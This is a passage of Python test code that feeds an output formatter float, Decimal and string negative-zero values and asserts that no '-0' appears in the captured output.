        with contextlib.redirect_stdout(out):
            output.emit(fmt, ["score"], [[-0.0], [Decimal("-0.00")], ["-0.000"]], [{"score": -0.0, "text": "-0.00"}])
        assert "-0" not in out.getvalue(), (fmt, out.getvalue())
